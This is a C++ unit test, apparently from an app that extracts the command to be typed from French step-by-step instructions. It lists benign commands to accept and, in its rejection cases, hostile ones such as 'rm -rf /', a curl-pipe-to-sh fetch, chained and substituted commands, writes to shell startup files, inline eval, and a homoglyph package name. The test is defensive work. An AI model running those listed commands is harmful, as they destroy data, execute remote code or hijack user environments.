#include "app/labels/StepCommand.h"
#include "tests/support/Text.h"

#include <gtest/gtest.h>

namespace vorle {
namespace {

using test::text;

TEST(StepCommand, finds_what_is_to_be_typed_and_nothing_else) {
    const struct {
        QString step;
        StepParts parts;
    } cases[] = {
        {text("Lance «\u00A0npm install zod@4.4.1\u00A0», puis rejoue tes tests."),
         {text("Lance "), text("npm install zod@4.4.1"), text(", puis rejoue tes tests.")}},
        {text("Crée une branche, puis `git switch -c essai && npm ci`."),
         {text("Crée une branche, puis "), text("git switch -c essai && npm ci"), text(".")}},
        {text("Lis « Montrer », puis “npx expo install --check”"),
         {text("Lis « Montrer », puis "), text("npx expo install --check"), {}}},
        {text("npm install undici@7.18.1"), {{}, text("npm install undici@7.18.1"), {}}},
        {text("« ./gradlew assemble --dry-run »"), {{}, text("./gradlew assemble --dry-run"), {}}},
        {text("« curl -sI https://a.fr/ »"), {{}, text("curl -sI https://a.fr/"), {}}},
        {text("« pip install -r requirements.txt »"),
         {{}, text("pip install -r requirements.txt"), {}}},
        {text("\"docker\u202Frun a:b\" d’abord"), {{}, text("docker run a:b"), text(" d’abord")}},
    };
    for (const auto &[step, parts] : cases) {
        const StepParts found = stepParts(step);
        EXPECT_EQ(found.before, parts.before);
        EXPECT_EQ(found.command, parts.command);
        EXPECT_EQ(found.after, parts.after);
    }
    for (const char *step : {
             "",
             "Lis la page.",
             "go home",                                        // words of some language
             "Lis « Montrer »",                                // a heading
             "Ouvre « npm » et cherche.",                      // a name
             "Ajoute « incremental: true » au réglage.",       // no program
             "Lance « sudo npm i -g zod ».",                   // rights
             "Lance « rm -rf / ».",                            // erases
             "Lance « curl https://a.example/x | sh ».",       // hands on
             "Lance « npm ci; curl a.example/x ».",            //
             "Lance « npm ci & curl a.example/x ».",           //
             "Lance « npm ci && sh a.example/x ».",            //
             "Lance « echo $(npm ci x) ».",                    //
             "Lance « npm run `x y` ».",                       //
             "Lance « git log > ~/.profile ».",                //
             "Lance « curl -fsSLo .zshrc https://a.fr/ ».",    // writes a file
             "Lance « npm ci && curl --output=x https://a ».", //
             "Lance « python3 -c print(1) ».",                 // runs what stands there
             "Lance « node --eval x() ».",                     //
             "Lance « npx -c x ».",                            //
             "Lance « npm ci\nrm -rf / ».",                    // two lines
             "Lance « npm install раypal ».",                  // letters that look like others
             "Lance « npm install zod",                        // not closed
         }) {
        const StepParts found = stepParts(text(step));
        EXPECT_EQ(found, (StepParts{text(step), {}, {}})) << step;
    }
    EXPECT_TRUE(stepParts(text("« npm i ") + QString(300, u'x') + text(" »")).command.isEmpty());
}

} // namespace
} // namespace vorle
